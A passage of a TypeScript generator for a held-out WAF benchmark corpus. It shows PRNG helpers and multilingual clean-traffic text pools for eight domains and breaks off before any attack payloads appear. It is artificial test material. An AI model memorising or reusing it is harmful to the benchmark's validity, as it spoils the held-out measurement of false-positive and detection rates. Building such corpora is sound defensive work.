// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads and shell snippets contain literal ${...}
/**
 * Held-out WAF corpus 33: realistic API traffic for measuring the WAF's false-positive rate (clean) and
 * detection rate (attacks), written blind: without reading the WAF sources, its docs, its tests or any
 * other corpus file (only the CorpusRequest record type was consulted).
 *
 * Domains (new for corpus 33): a veterinary telemedicine chat (pet symptoms, photos), a construction
 * equipment rental fleet, a church/temple donation and event platform, a subscription box e-commerce shop
 * (box curation notes, surveys), a game-server hosting control panel (server configs, mod lists, console
 * commands players paste), a real-time sports betting odds feed (market names, settlement notes), an
 * academic conference submission system (abstracts with LaTeX, reviewer comments) and a nonprofit food
 * bank (inventory, volunteer shifts).
 *
 * Generation: a self-written mulberry32 PRNG with a fixed seed drives every choice, so the output is
 * deterministic. Clean traffic is 30 requests for each of 14 kinds, built from hand-written per-domain
 * text pools (many distinct texts, multilingual prose, markdown, HTML, code and config snippets) placed in
 * the shapes real clients send. Attacks are 30 per family in nine families; each pairs a working payload
 * with a carrier (nested JSON field, array, object key, \u escapes, JSON inside a string, base64, GraphQL
 * variables, query string, header, form, multipart, merge/json-patch, NDJSON) and records both in
 * `technique`. Attacks never go into HELDOUT33_EXCLUDE_FIELDS.
 *
 * Run directly (`node bench/waf/corpus/heldout33.ts`) to write clean-heldout33.json and
 * attacks-heldout33.json next to this file.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** Body fields that legitimately carry rich-text HTML or source code; attacks are never placed in them. */
export const HELDOUT33_EXCLUDE_FIELDS: string[] = [
  'body.page.bodyHtml',
  'body.server.startupScript',
  'body.submission.latexSource',
];

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = mulberry32(0x33ad5eed);
const int = (lo: number, hi: number): number => lo + Math.floor(rand() * (hi - lo + 1));
function pick<T>(xs: readonly T[]): T {
  return xs[Math.floor(rand() * xs.length)] as T;
}
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(0, 15)];
  return s;
};
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const rnd64 = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += B64URL[int(0, 63)];
  return s;
};
const b64u = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const enc = encodeURIComponent;
const qs = (o: Record<string, string | number>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k)}=${enc(String(v))}`)
    .join('&');
const isoDate = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:00Z`;
const day = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36',
  'PawCallVet/4.12.0 (iOS 18.1; iPhone15,3) CFNetwork/1568.200.51',
  'FleetYard-Android/3.8.2 (Linux; Android 13; SM-T736B)',
  'okhttp/4.12.0',
  'axios/1.7.7',
  'python-requests/2.32.3',
  'node-fetch/3.3.2',
  'Dart/3.5 (dart:io)',
  'OddsFeedConsumer/2.4 (+https://partners.example.net/odds)',
  'Go-http-client/2.0',
];

function jwt(): string {
  const header = b64u(JSON.stringify({ alg: pick(['RS256', 'ES256', 'HS256']), typ: 'JWT', kid: hex(8) }));
  const iat = 1790000000 + int(0, 9000000);
  const payload = b64u(
    JSON.stringify({
      sub: uuid(),
      iss: pick([
        'https://auth.pawcall.example',
        'https://id.fleetyard.example',
        'https://login.gatehouse.example',
      ]),
      iat,
      exp: iat + 3600,
      scope: pick(['read write', 'openid profile email', 'orders:write', 'servers:admin', 'odds:read']),
    }),
  );
  return `${header}.${payload}.${rnd64(pick([43, 86]))}`;
}

function baseHeaders(accept = 'application/json'): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(UAS),
    accept,
    authorization: `Bearer ${jwt()}`,
  };
  if (rand() < 0.5)
    h['accept-language'] = pick([
      'en-US,en;q=0.9',
      'de-DE,de;q=0.8',
      'es-MX',
      'fr-CA,fr;q=0.9,en;q=0.5',
      'ja-JP',
      'pt-BR',
    ]);
  if (rand() < 0.4) h['x-request-id'] = uuid();
  return h;
}

function withBody(ct: string, accept = 'application/json'): Record<string, string> {
  return { ...baseHeaders(accept), 'content-type': ct };
}

// ---------------------------------------------------------------------------------------------------------
// Text pools
// ---------------------------------------------------------------------------------------------------------

interface Domain {
  readonly name: string;
  readonly base: string;
  readonly resources: readonly string[];
  readonly notes: readonly string[];
  readonly titles: readonly string[];
}

const DOMAINS: readonly Domain[] = [
  {
    name: 'vet',
    base: '/api/v2/vetchat',
    resources: ['consultations', 'pets', 'messages', 'photos', 'prescriptions', 'vets'],
    titles: [
      'Limping after the dog park',
      'Itchy ears again',
      'Not eating since Tuesday',
      'Lump on left flank',
      'Hamster sneezing',
    ],
    notes: [
      'Biscuit (beagle, 7y, 14.2 kg) has been limping on the right hind leg since yesterday evening. No visible wound, she yelps when I touch the knee. She still eats normally.',
      "Our cat Miso threw up 3 times today — twice hairballs, once just yellow foam. She's drinking water. Should I bring her in or wait 24h?",
      'Photo attached of the rash on his belly. It started after we switched to the new grain-free food (salmon & sweet potato). He licks it constantly.',
      'Follow-up: the ear drops (Otomax, 4 drops BID) helped a lot, but the left ear still smells a bit. Can we extend for another 5 days?',
      "Dr. O'Neill, thanks for the call! Just to confirm: 1/2 tablet of meloxicam 1.5 mg with food, once a day, for 5 days?",
      'Kaninchen Lotte frisst seit heute Morgen kein Heu mehr und sitzt zusammengekauert in der Ecke. Kot ist sehr klein und trocken.',
      'Mi perro Toby se comió un calcetín entero hace unas 2 horas. No ha vomitado todavía. ¿Es una emergencia?',
      'Weight log: 4.1 kg → 3.8 kg over 3 weeks. Appetite is "okay-ish". Bloodwork from March attached (PDF).',
      '猫のモモが昨日から右目をしょぼしょぼさせています。目やにも少し出ています。写真を送ります。',
      'Update 14:30 — temperature 39.6 °C rectal. Gums pink, CRT < 2s. Still lethargic & panting.',
    ],
  },
  {
    name: 'fleet',
    base: '/api/fleet/v1',
    resources: ['equipment', 'rentals', 'sites', 'inspections', 'invoices', 'telematics'],
    titles: [
      'CAT 320 excavator',
      'JLG 600S boom lift',
      'Bobcat S650 skid steer',
      'Genie GS-1930 scissor lift',
      'Wacker plate compactor',
    ],
    notes: [
      'Delivered to gate 3 (north entrance off Route 9). Site contact: Mike R., 555-0142. Machine was fuelled to 7/8, hours meter 4,812.3.',
      'Customer reports hydraulic leak near the boom cylinder — about a cup of fluid under the machine overnight. Tagged out, do NOT rent until inspected.',
      "Return inspection: bucket teeth worn ~40%, new scratch on counterweight (photo #3). Charge damage per contract §7.2? Let's discuss w/ branch manager.",
      "Need a 19' scissor lift for 2 weeks starting 3/14, indoor slab, non-marking tyres required. Access door is 8'2\" wide.",
      'Telematics shows idle time of 63% last week — operator leaving it running through lunch. Fuel burn 2.1 gal/h at idle.',
      'Baustelle Müllerstraße 12: Minibagger 1,8 t bis Freitag verlängern. Rechnung bitte an die Bauleitung, nicht ans Büro.',
      'Pick-up delayed: the lowboy trailer needs a permit for the 11\'6" overpass on I-84; rescheduling for Thursday 06:00.',
      'Operator certification on file expires 2026-05-01. Please upload the renewed OSHA card before next rental.',
      'Overage: 312 hrs vs 176 included (8 hrs × 22 days). 136 hrs × $18.50 = $2,516.00 — customer disputes 40 hrs (rain days).',
      "Grue mobile 60 t : prévoir un signaleur et un plan de levage validé avant l'arrivée. Sol argileux, plaques de répartition obligatoires.",
    ],
  },
  {
    name: 'church',
    base: '/api/congregation/v1',
    resources: ['donations', 'events', 'funds', 'members', 'rsvps', 'pledges'],
    titles: [
      'Easter Sunrise Service',
      'Diwali Family Night',
      'Youth Retreat 2026',
      'Food drive for St. Anne',
      'Shabbat potluck',
    ],
    notes: [
      'In loving memory of my mother, Rosa — she sang in the choir here for 31 years. Please apply this gift to the organ restoration fund.',
      'Recurring tithe: $250.00 on the 1st of each month, from checking ending 4411. Please email the annual giving statement in January.',
      "We'll bring 2 adults + 3 kids (one is vegetarian, one has a severe peanut allergy). Can we help set up tables at 5pm?",
      'Prasad offering for Ganesh Chaturthi: 10 kg modak, sponsored by the Iyer family. Please add names to the archana list.',
      'Für die Kollekte am Erntedankfest: 150 € für die Tafel und 50 € für die Kirchenmusik. Spendenquittung bitte an die neue Adresse.',
      'Retreat registration — shuttle from the parish lot departs Fri 4:30 PM. Bring sleeping bag, Bible, flashlight. No phones after 10 pm!',
      'Zakat al-Fitr for 5 family members (£5 each). JazakAllahu khairan to all the volunteers.',
      'Please drop my pledge from $100/mo to $60/mo starting next month, I lost my job. I hope to increase it again soon, God willing.',
      'Anonymous gift — do not list my name in the bulletin or on the donor wall, please.',
      '주일 예배 후 점심 봉사 신청합니다. 김치찌개 20인분 준비 가능합니다.',
    ],
  },
  {
    name: 'box',
    base: '/api/boxes/v3',
    resources: ['subscriptions', 'boxes', 'surveys', 'products', 'shipments', 'curation'],
    titles: [
      'Cozy Autumn Tea Box',
      'Spicy Snacks of Korea',
      'Indie Beauty Mini Box',
      'Dog Treat Tasting Flight',
      'Zero-Waste Kitchen Kit',
    ],
    notes: [
      'Curation note: swap the lavender soap for the unscented oat bar in all boxes going to customers flagged "fragrance sensitive" (≈ 312 subs).',
      'Loved the matcha, but the hojicha was stale (best-by 2025-11). Could you send a replacement? Order #BX-88231.',
      "Please skip March — we'll be travelling. Resume in April and ship to my office: 1 Infinite Loop, Suite 200, Cupertino, CA 95014.",
      'Survey: Rate the spice level 1–5: 4 🌶🌶🌶🌶. Favourite item: gochujang popcorn. Least favourite: the dried squid (sorry!).',
      'Gift message: "Happy 30th, Jess! Something sweet for the sweetest sister ♥ — love, Pri & Sam"',
      'Allergies: tree nuts, sesame. Dietary: vegan. Please no honey or beeswax products.',
      'Theme brainstorm for Q3: "Summer in Oaxaca" — mole paste, chapulines (opt-in only!), Mexican chocolate, embroidered tea towel.',
      "Le colis est arrivé écrasé, deux bocaux cassés et de la confiture partout. Photos jointes. Merci de m'envoyer un remplacement.",
      'Unit cost breakdown: tea 3.20 + mug 4.85 + honey stick 0.40 + packaging 1.10 = $9.55 / box at 5,000 units.',
      'Cancel reason: too much stuff, not enough space in our tiny apartment. The boxes were great though, 10/10 would gift.',
    ],
  },
  {
    name: 'game',
    base: '/api/panel/v1',
    resources: ['servers', 'backups', 'mods', 'players', 'schedules', 'files'],
    titles: [
      'Survival SMP #2',
      'Valheim — Ironhold',
      'ARK Island PvE',
      'Rust weekly wipe',
      'Terraria Expert',
    ],
    notes: [
      'Server crashes every ~40 min with "java.lang.OutOfMemoryError: Java heap space". Currently -Xmx6G on the 8 GB plan. Mod count: 187.',
      'Please restore the backup from Saturday 02:00 UTC — someone griefed spawn with TNT and lava. Player UUIDs in the log excerpt below.',
      'Wipe schedule: first Thursday of the month at 19:00 CET, map seed 1337420, size 4250. Blueprint wipe only on forced wipes.',
      'Can you whitelist these players: Steve_Builds, xX_Creeper_Xx, maïa_minecraft, 焼き鳥マスター',
      'After updating to 1.21.4 the Create mod won\'t load: "Mod create requires flywheel 1.0.0 or above". Tried clearing the config folder.',
      'TPS drops to 12 whenever someone loads the nether hub. Spark profiler link: https://spark.lucko.me/AbCdEf1234',
      'Discord webhook for join/leave notifications stopped posting after I regenerated the token. Updated it in the panel, still nothing.',
      'Der Server hängt beim Start bei "Preparing spawn area: 0%". Welt ist ca. 14 GB groß.',
      'Our admin typed /op on a random player by accident, then /deop. Can we see the full console history for the last hour?',
      'Scheduled task: announce "Server restarting in 5 minutes!" then save-all, then restart at 04:00 daily.',
    ],
  },
  {
    name: 'odds',
    base: '/api/odds/v1',
    resources: ['events', 'markets', 'selections', 'settlements', 'feeds', 'bets'],
    titles: [
      'Arsenal v Chelsea',
      'Lakers @ Celtics',
      'Djokovic vs Alcaraz',
      'India v Australia — 3rd Test',
      'Real Madrid – Barcelona',
    ],
    notes: [
      'Market "Both Teams To Score & Over 2.5" suspended at 63:12 after VAR review; reopened 64:40 with new prices.',
      "Settlement note: player Kane did not start (came on 71'), so 'Anytime Goalscorer' bets are void per rule 4.3 and stakes refunded.",
      "Abandoned at 1–1 (28') due to waterlogged pitch. All markets void except those already determined (First Goalscorer settled).",
      'Price feed lag detected: provider B 3.4 s behind provider A on in-play tennis. Failing over to A for ATP markets.',
      'Handicap market Lakers -4.5 @ 1.91 / Celtics +4.5 @ 1.91 — margin 4.7%. Max stake €2,500.',
      'Rain delay in Melbourne; match resumed 21:05 AEDT. Set betting re-opened with adjusted odds (2–0: 3.25, 2–1: 2.80).',
      'Resulting correction: corner count was 11 not 10 (official data feed updated 22:48). Re-settle "Over 10.5 corners" as WON.',
      'Manual trader note: sharp money on the draw from 3 accounts in the same /24 — limits reduced to 20% for these customers.',
      'Partido suspendido por niebla en el minuto 55. Mercados de descanso liquidados, el resto anulados.',
      'Dead heat for 2nd place (photo finish) — place bets paid at half stake at full odds, per dead-heat rules.',
    ],
  },
  {
    name: 'conf',
    base: '/api/confsys/v1',
    resources: ['submissions', 'reviews', 'authors', 'tracks', 'bids', 'camera-ready'],
    titles: [
      'Sublinear Sketches for Sliding-Window Heavy Hitters',
      'On the Robustness of Diffusion Models to Label Noise',
      'A Type System for Gradual Ownership',
      'Towards Carbon-Aware Batch Scheduling',
      'Learning to Prune Query Plans',
    ],
    notes: [
      'The paper proposes a sketch with $O(\\epsilon^{-1}\\log n)$ space. The main theorem (Thm 3.2) seems correct, but the lower bound in §4 assumes a non-adaptive adversary, which is not stated.',
      'Weak accept. Strengths: clear writing, strong baselines. Weaknesses: the ablation in Table 3 drops the most obvious variant (no warm-up). Minor: Fig. 2 axes unlabeled.',
      'Conflict of interest: I co-authored a paper with the second author in 2024 (ICML). Please reassign.',
      'Rebuttal: We thank R2 for the careful reading. Regarding "the select/join/where operators are not novel": our contribution is the cost model, not the operators (see Eq. 5).',
      'Author response: the drop table in Appendix B lists all 14 excluded datasets and why; we will move it to the main text.',
      "Les auteurs devraient comparer avec l'approche de Dupont et al. (2023), qui résout un problème très proche avec une complexité en $\\Theta(n \\log n)$.",
      'Meta-review: reviewers agree the idea is interesting but evaluation is limited to synthetic data. Recommend: reject, encourage resubmission.',
      'Camera-ready checklist: ✔ ACM CCS concepts ✔ rights form ✔ ORCID for all authors ✘ artifact badge (pending AEC).',
      'Bid: eager. I have worked on shared-nothing query processing and cardinality estimation for ~6 years.',
      'Reproducibility: code at https://github.com/example-lab/sketchy (MIT). Runs in ~3 h on a single A100; seeds fixed to 0–4.',
    ],
  },
  {
    name: 'food',
    base: '/api/pantry/v1',
    resources: ['inventory', 'shifts', 'volunteers', 'donors', 'distributions', 'agencies'],
    titles: [
      'Saturday sort shift',
      'Mobile pantry — Eastside',
      'Holiday turkey drive',
      'Backpack program packing',
      'Cold storage audit',
    ],
    notes: [
      'Received 1,240 lb from Kroger rescue: 14 cases yogurt (exp 3/9), 6 crates bananas, 2 pallets mixed bread. Temp at arrival 38 °F.',
      "Volunteer note: I can't lift more than 20 lbs (back surgery). Happy to do check-in or label sorting instead!",
      'Recall alert — peanut butter lot #PB2412 (Brand X, 16 oz). Pull from shelves, quarantine in cage B, do not distribute.',
      'Group booking: 12 employees from Acme Corp, Friday 9–12, corporate volunteer day. Two are under 16 — parents will accompany.',
      'Client intake: family of 6, no kitchen access (motel), please prioritise ready-to-eat items and can openers.',
      'Distribución del sábado: 212 familias atendidas, 9.8 toneladas de alimentos, 31 voluntarios. ¡Gracias a todos!',
      'Freezer #2 alarm at 03:14 — temp rose to 12 °F. Facilities reset the compressor; product still frozen solid, no loss.',
      'Shift swap: Priya T. takes my Tuesday 5–8pm, I take her Thursday 10–1. Both approved by coordinator Dana.',
      'Agency partner "Hope Kitchen" requests 40 cases of canned protein (tuna, chicken, beans) for the month; current stock covers 28.',
      'Court-ordered community service: 40 hours required, 17.5 logged. Please sign off on the timesheet after each shift.',
    ],
  },
];

const PROSE: readonly string[] = [
  "Honestly I didn't expect the union of two small congregations to work so smoothly — but here we are, one choir, one potluck, and twice the casseroles.",
  "Please don't drop the Thursday shift! It's the only one I can make after work, and the seniors' delivery route depends on it.",
  'I tried to select the Large box, but the page kept saying "choose a size". Then I deleted my cookies and it worked. Weird.',
  'The exec committee will meet on Tuesday to update the bylaws; anyone can submit agenda items by replying here.',
  'My son wants to join the server but he keeps typing his password into chat lol. How do I reset it for him?',
  'We ran "sudo apt update" on the old laptop in the church office and now the printer driver is gone. Any volunteer who knows Linux?',
  'Wir haben am Sonntag über 300 Gäste erwartet, es kamen fast 450. Das Essen reichte trotzdem — dank der spontanen Spenden aus der Nachbarschaft!',
  'Nous cherchons des bénévoles pour le tri du samedi matin (8h–11h). Aucune expérience requise, bonne humeur obligatoire 😊',
  'Estamos muy agradecidos por la donación de la panadería San José: 80 barras de pan y 12 pasteles para el evento de los niños.',
  'O gato está muito melhor depois da consulta. Voltou a comer ração úmida e já brinca com o ratinho de pelúcia.',
  'Il cane ha mangiato un pezzo di cioccolato fondente (circa 20 g). Pesa 9 kg. Devo preoccuparmi?',
  'Спасибо за быструю консультацию! Собака уже бегает, хромота почти прошла.',
  'Ο διάλογος με τους κριτές ήταν εποικοδομητικός· θα ενσωματώσουμε τις παρατηρήσεις στην τελική έκδοση.',
  'שבת שלום לכולם! הארוחה המשותפת תתקיים ביום שישי בשעה 19:00 באולם הקהילה.',
  'شكراً جزيلاً لكل المتطوعين في بنك الطعام هذا الأسبوع، وزعنا أكثر من ٥٠٠ سلة غذائية.',
  'हमारे मंदिर में दीवाली उत्सव 1 नवंबर को शाम 6 बजे से शुरू होगा। सभी परिवारों का स्वागत है।',
  '这次会议的审稿意见非常详细，我们会在最终版本中补充实验并修改第三节的证明。',
  '다음 주 토요일 푸드뱅크 봉사에 친구 두 명과 함께 참여하고 싶습니다.',
  'ขอบคุณสำหรับกล่องของขวัญเดือนนี้ ชาไทยอร่อยมาก อยากให้มีอีก',
  'Tôi muốn đổi ngày giao hàng sang thứ Sáu vì cuối tuần tôi đi vắng.',
  'The odds on the draw went from 3.40 to 2.95 in ten minutes — is that a feed glitch or did something happen?',
  'Rob\'s note: "the kill switch on the scissor lift is sticky" — maintenance says it\'s within spec, but please double-check before Monday.',
  'Our kid wrote a poem for the harvest festival: "Apples, pumpkins, bread and rain / thank you, Lord, for fields of grain." Can it go in the bulletin?',
  'To whom it may concern: the drop-off point for donations has moved from the east door to the loading dock (follow the blue signs).',
  "I'd like to update my shipping address; the old one (Flat 3B, 12 O'Connell St.) is no longer valid as of 1 June.",
  'The reviewers asked us to "remove any claim of optimality" — fair, our bound is only tight up to a log factor.',
  'Emoji test from the youth group: 🙏🕊️⛪🕉️☪️✡️ — hope they all render in the newsletter!',
  'Please insert my name into the volunteer roster for the Christmas dinner; I can cook, wash dishes, or drive.',
  'Game night recap: we killed the Ender Dragon at 02:13 after 4 wipes. Nobody rage-quit (this time).',
  'A quick reminder that 1 cup ≈ 240 ml and 1 lb ≈ 0.45 kg when you enter donations in the inventory sheet.',
  'Is it "where" or "wear" on the sign for the clothing drive? Asking for a friend who already printed 200 flyers.',
  "Mom's kibble order: 2 × 12 kg bags, grain-free, chicken & rice. She's 82 so please call before delivery: +1 (555) 013-7788.",
];

const SEARCHES: readonly string[] = [
  'limping dog after walk',
  'cat vomiting yellow foam',
  'rabbit not eating hay',
  'excavator 20 ton',
  'scissor lift 19ft indoor',
  'boom lift near Hartford CT',
  'Easter vigil 2026',
  'youth retreat registration',
  'Gebetszeiten Ramadan',
  'matcha box',
  'vegan snack subscription',
  'gift for dad under $40',
  'minecraft 1.21 modpack',
  'valheim server crash fix',
  'rust wipe schedule',
  'arsenal chelsea odds',
  'over/under 2.5 goals',
  'tennis set betting',
  'gradual ownership types',
  'diffusion label noise robustness',
  'query optimizer learned pruning',
  'canned tuna',
  'volunteer shifts saturday',
  'mobile pantry schedule',
  'café con leche',
  'crème brûlée box',
  'naïve Bayes',
  'Schrödinger bridge',
  'São Paulo',
  'Zürich',
  '東京 ドッグラン',
  '犬 下痢',
  'ÿoga mats',
  'select committee meeting notes',
  'drop-off locations',
  'union street church',
  "O'Hare hotel shuttle",
  '"exact phrase" search',
  'kids & family events',
  '50% off first box',
  'C++ template metaprogramming',
  'sleep study cats',
];

const HTML_SNIPPETS: readonly string[] = [
  '<h2>Easter Sunrise Service</h2><p>Join us at <strong>6:15 AM</strong> on the east lawn. Bring a blanket!</p><ul><li>Hot cross buns</li><li>Coffee &amp; juice</li></ul>',
  '<p>Our <em>Diwali Family Night</em> includes rangoli, <a href="https://temple.example.org/diwali" target="_blank" rel="noopener">music</a>, and dinner.</p><img src="https://cdn.temple.example.org/img/diya.jpg" alt="Lit diyas" width="640" height="360">',
  '<div class="callout callout--warning"><p><strong>Parking:</strong> the north lot is closed for repaving. Use the school lot across the street.</p></div>',
  '<h3>Volunteer roles</h3><table><thead><tr><th>Role</th><th>Time</th></tr></thead><tbody><tr><td>Greeter</td><td>9:30–10:00</td></tr><tr><td>Usher</td><td>10:00–11:30</td></tr></tbody></table>',
  '<blockquote><p>“For I was hungry and you gave me food.” — Matthew 25:35</p></blockquote><p>Thank you for supporting the pantry.</p>',
  '<p>Livestream: <iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Sunday service" allow="encrypted-media" allowfullscreen></iframe></p>',
  '<p style="text-align:center"><span style="color:#8b0000;font-size:18px">Christmas Eve Candlelight</span><br>7 PM &middot; 9 PM &middot; 11 PM</p>',
  '<ol><li>Register online</li><li>Pick up your badge at the welcome desk</li><li>Find your small group (see <a href="/groups">list</a>)</li></ol>',
  '<p>Gemeindefest am <time datetime="2026-06-21">21. Juni</time> — Kinderprogramm, Flohmarkt &amp; Kaffee und Kuchen.</p>',
  '<figure><img src="/media/choir-2025.webp" alt="Choir on the steps"><figcaption>Our choir after the spring concert</figcaption></figure>',
  '<p>Give online via <a href="https://give.example.org/?fund=building">our secure page</a> or text <code>GIVE</code> to 55-5123.</p><hr><p><small>Receipts are emailed within 24 h.</small></p>',
  "<section><h2>Ramadan Iftar Schedule</h2><p>Iftar is served daily at sunset in the social hall. <b>Sisters' entrance</b> is on the west side.</p></section>",
];

const CODE_SNIPPETS: readonly { lang: string; src: string }[] = [
  {
    lang: 'sh',
    src: '#!/bin/bash\ncd /home/container\nexport JAVA_OPTS="-Xms2G -Xmx6G -XX:+UseG1GC"\njava $JAVA_OPTS -jar server.jar nogui',
  },
  {
    lang: 'properties',
    src: 'server-port=25565\nmotd=\\u00a76Survival SMP \\u00a7f| 1.21.4\nmax-players=40\nview-distance=10\nwhite-list=true\nenable-rcon=false',
  },
  {
    lang: 'yaml',
    src: 'world:\n  seed: 1337420\n  size: 4250\nwipe:\n  cron: "0 19 * * THU#1"\n  blueprints: false\nplugins:\n  - Oxide.Ext.Discord\n  - RemoverTool',
  },
  {
    lang: 'lua',
    src: 'function OnPlayerJoin(player)\n  if not whitelist[player.steamId] then\n    player:Kick("Not whitelisted")\n    return false\n  end\n  Broadcast(player.name .. " joined the server")\nend',
  },
  {
    lang: 'sh',
    src: '#!/bin/sh\n./valheim_server.x86_64 -name "Ironhold" -port 2456 -world "Dedicated" -password "${SERVER_PASSWORD}" -crossplay',
  },
  {
    lang: 'json',
    src: '{\n  "difficulty": "hard",\n  "pvp": false,\n  "mods": ["create-1.21.1-6.0.4.jar", "jei-1.21.1-19.21.0.jar"],\n  "backupCron": "0 */6 * * *"\n}',
  },
  {
    lang: 'ini',
    src: '[ServerSettings]\nDifficultyOffset=1.0\nXPMultiplier=2.5\nTamingSpeedMultiplier=3.0\nAllowThirdPersonPlayer=True\nServerPVE=True',
  },
  {
    lang: 'sh',
    src: 'screen -S mc -X stuff "say Restarting in 5 minutes^M"\nsleep 300\nscreen -S mc -X stuff "save-all^M"\nsleep 10\nscreen -S mc -X stuff "stop^M"',
  },
  {
    lang: 'python',
    src: 'import json, sys\n\nfor line in sys.stdin:\n    ev = json.loads(line)\n    if ev["type"] == "player_death":\n        print(f"{ev[\'player\']} died to {ev[\'cause\']}")',
  },
  {
    lang: 'toml',
    src: '[server]\nname = "Terraria Expert"\nworldsize = 3\nmaxplayers = 16\n\n[tshock]\nRestApiEnabled = false\nSpawnProtection = true',
  },
];

const LATEX_SNIPPETS: readonly string[] = [
  '\\begin{theorem}\\label{thm:main}\nFor any $\\epsilon \\in (0,1)$, the sketch uses $O(\\epsilon^{-1}\\log n)$ words and answers queries in $O(1)$ time.\n\\end{theorem}',
  'We minimise $\\mathcal{L}(\\theta) = \\mathbb{E}_{x\\sim p}\\left[\\|\\epsilon - \\epsilon_\\theta(x_t, t)\\|_2^2\\right]$ under symmetric label noise with rate $\\eta$.',
  '\\section{Introduction}\nGradual typing~\\cite{siek2006} lets programmers mix static and dynamic code. We extend it to ownership: $\\Gamma \\vdash e : \\tau \\;|\\; \\omega$.',
  'Let $G=(V,E)$ and $w: E \\to \\mathbb{R}_{\\ge 0}$. Then\n\\begin{align}\n  \\sum_{v \\in V} \\deg(v) &= 2|E| \\\\\n  \\Pr[X \\ge k] &\\le e^{-k^2/2n}\n\\end{align}',
  '\\begin{algorithm}\\caption{Carbon-aware scheduler}\n\\For{$j \\in \\mathcal{J}$}{ $t^* \\gets \\arg\\min_t c(t) \\cdot e_j$ }\n\\end{algorithm}',
  'Our estimator satisfies $\\hat{q} = \\frac{1}{|S|}\\sum_{s\\in S} \\mathbb{1}[\\text{cost}(s) < \\tau]$, cf.~Table~\\ref{tab:results}.',
];

const FIRST = [
  'Ana',
  'Ben',
  'Chioma',
  'Dmitri',
  'Emma',
  'Farid',
  'Grace',
  'Hiroshi',
  'Isabel',
  'José',
  'Kwame',
  'Léa',
  'Mei',
  'Noah',
  'Oksana',
  'Priya',
  'Raúl',
  'Siobhán',
  'Tomasz',
  'Zoë',
];
const LAST = [
  'Okafor',
  'Müller',
  'García',
  'Nguyen',
  'Kowalski',
  "O'Brien",
  'Tanaka',
  'Haddad',
  'Silva',
  'Andersson',
  'Patel',
  'Dubois',
  'Kim',
  'Rossi',
  'Cohen',
  'Ivanova',
];
const person = (): string => `${pick(FIRST)} ${pick(LAST)}`;
const email = (): string =>
  `${pick(FIRST)
    .toLowerCase()
    .normalize('NFD')
    .replace(/[^a-z]/g, '')}.${pick(LAST)
    .toLowerCase()
    .replace(
      /[^a-z]/g,
      '',
    )}${int(1, 99)}@${pick(['gmail.com', 'outlook.com', 'proton.me', 'example.org', 'uni-example.edu'])}`;
const money = (): number => Math.round(rand() * 50000) / 100;

function domainBody(d: Domain): Record<string, unknown> {
  switch (d.name) {
    case 'vet':
      return {
        petId: uuid(),
        species: pick(['dog', 'cat', 'rabbit', 'guinea pig', 'ferret', 'parrot']),
        weightKg: Math.round(rand() * 400) / 10,
        symptoms: pick([
          ['lethargy', 'vomiting'],
          ['limping'],
          ['itching', 'hair loss'],
          ['sneezing', 'discharge'],
        ]),
        message: pick(d.notes),
        urgency: pick(['routine', 'soon', 'urgent']),
        photoIds: [uuid(), uuid()].slice(0, int(0, 2)),
      };
    case 'fleet':
      return {
        equipmentId: `EQ-${int(10000, 99999)}`,
        model: pick(d.titles),
        siteId: `SITE-${int(100, 999)}`,
        startDate: day(),
        endDate: day(),
        rate: { daily: money(), weekly: money(), currency: 'USD' },
        deliveryNotes: pick(d.notes),
        hoursMeter: Math.round(rand() * 900000) / 100,
      };
    case 'church':
      return {
        donorId: uuid(),
        fund: pick(['general', 'building', 'missions', 'benevolence', 'youth', 'organ-restoration']),
        amount: { value: money(), currency: pick(['USD', 'EUR', 'GBP', 'INR', 'CAD']) },
        recurring: rand() < 0.4 ? { interval: pick(['weekly', 'monthly']), startDate: day() } : null,
        memo: pick(d.notes),
        giftAid: rand() < 0.3,
      };
    case 'box':
      return {
        subscriptionId: `sub_${rnd64(14)}`,
        plan: pick(['monthly', 'quarterly', 'annual']),
        box: pick(d.titles),
        preferences: { allergies: pick([[], ['tree nuts'], ['gluten', 'soy']]), spiceLevel: int(1, 5) },
        note: pick(d.notes),
        shipTo: {
          name: person(),
          city: pick(['Austin', 'Lyon', 'Leeds', 'Osaka', 'Curitiba']),
          postal: String(int(10000, 99999)),
        },
      };
    case 'game':
      return {
        serverId: `srv-${hex(6)}`,
        name: pick(d.titles),
        game: pick(['minecraft-java', 'valheim', 'ark', 'rust', 'terraria']),
